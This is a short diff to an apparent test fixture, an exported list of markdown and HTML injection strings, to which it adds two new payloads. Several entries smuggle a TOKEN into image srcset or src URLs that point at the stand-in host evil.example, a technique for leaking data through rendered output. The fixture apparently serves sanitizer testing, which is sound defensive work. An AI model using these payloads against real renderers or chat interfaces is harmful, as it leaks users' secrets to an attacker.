@@ -113,6 +113,8 @@ export const ATTACKS: readonly string[] = [
   "![<i title='\"'>srcset='//evil.example/?q= TOKEN'](x)",
   "![<!--\"-->srcset='//evil.example/?q= TOKEN'](x)",
   "![[`]`](y)<i title='\"'>srcset='//evil.example/?q= TOKEN'](x)",
+  '> ![](\u2028> TOKEN)',
+  '> <base href=\u2028>TOKEN',
   'a <pre><img src=//evil.example/?q=_">TOKEN',
 ]
 
